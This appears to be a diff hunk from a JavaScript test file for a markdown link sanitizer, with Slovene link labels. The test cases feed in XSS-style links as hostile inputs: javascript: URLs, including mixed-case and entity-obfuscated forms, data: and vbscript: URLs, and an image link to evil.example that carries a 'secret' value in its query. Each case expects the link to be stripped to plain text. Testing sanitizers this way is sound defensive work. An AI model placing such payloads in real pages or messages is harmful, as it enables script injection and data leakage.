@@ -44,7 +44,7 @@ test.each([
   ["[klikni](javascript:alert(1))", "klikni"],
   ["[klikni](JaVaScRiPt:alert(1)) [b](data:text/html;base64,PHN2Zz4=) [c](vbscript:x)", "klikni b c"],
   ["[klikni](java&#115;cript:alert(1))", "klikni"],
-  ["javascript:alert(1)", ""],
+  ["<javascript:alert(1)>", ""],
   ["[pokliči](tel:+38641123456)", "pokliči"],
   ["[piši](mailto:kdo@evil.example)", "piši"],
   ["![slika](https://evil.example/p.png?d=skrivnost)", "slika"],
